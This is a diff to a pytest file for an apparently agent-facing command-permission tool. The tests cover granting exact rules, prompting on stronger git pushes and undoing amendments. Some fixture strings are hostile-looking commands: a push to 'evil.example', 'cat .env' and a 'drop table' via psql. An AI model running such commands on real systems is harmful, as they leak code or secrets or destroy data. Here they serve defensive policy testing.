@@ -239,13 +239,13 @@ def grant(*arguments: str) -> int:
 def test_a_grant_is_what_the_command_did(rules: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert grant("--", "git", "push") == ExitCode.ALLOW
     assert rules.read_text().splitlines()[1:] == [
-        f"prefix_rule({PUSH}, decision = {ALLOWED}, effects = {REMOTE}, hosts = {CONFIGURED})"
+        f"prefix_rule({PUSH}, decision = {ALLOWED}, exact = True, effects = {REMOTE},"
+        f" hosts = {CONFIGURED})"
     ]
     said = capsys.readouterr().out.splitlines()[-1]
-    assert said.startswith("allows `git push …`; still asks for --")
-    assert "--force" in said
-    assert decision("git push -u origin topic") is Decision.ALLOW
-    for stronger in ("git push -f", "git push origin :x", "git push https://evil.example/r"):
+    assert said == "allows `git push`"
+    assert decision("git push") is Decision.ALLOW
+    for stronger in ("git push -f", "git push origin x", "git push https://evil.example/r"):
         assert decision(stronger) is Decision.PROMPT
     assert grant("--", "git", "push") == ExitCode.ERROR
     assert "it is allowed already" in capsys.readouterr().err
@@ -381,3 +381,32 @@ def test_an_agent_may_not_amend() -> None:
     for command in ("execpolicy amend -- git push", "python3 -m execpolicy amend -- ls"):
         assert decision(command) is Decision.PROMPT
         assert Engine.load().check(command).amendments == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "git commit -q -m \"$(cat <<'E'\nfix: x\nE\n)\"",
+        "python3 - <<'E'\nprint(1)\nE",
+        "psql shop <<< 'drop table x'",
+        "cat .env",
+        "git config user.name x",
+        "ls > out.txt",
+    ],
+)
+def test_what_is_offered_is_taken(rules: Path, text: str) -> None:
+    assert grant("-c", text) == ExitCode.ALLOW
+    assert grant("-c", text) == ExitCode.ERROR  # it is allowed already
+
+
+def test_undo_takes_back_the_last_one_wherever_it_was_written(
+    rules: Path, repository: Path
+) -> None:
+    project = repository / ".execpolicy/rules/default.rules"
+    assert amend("--", "cargo", "test") == ExitCode.ALLOW
+    before = rules.read_bytes()
+    assert amend("--layer", "project", "--", "cargo", "check") == ExitCode.ALLOW
+    assert amend("--undo") == ExitCode.ALLOW
+    assert (project.read_bytes(), rules.read_bytes()) == (b"", before)
+    assert amend("--undo") == ExitCode.ALLOW
+    assert rules.read_bytes() == b""
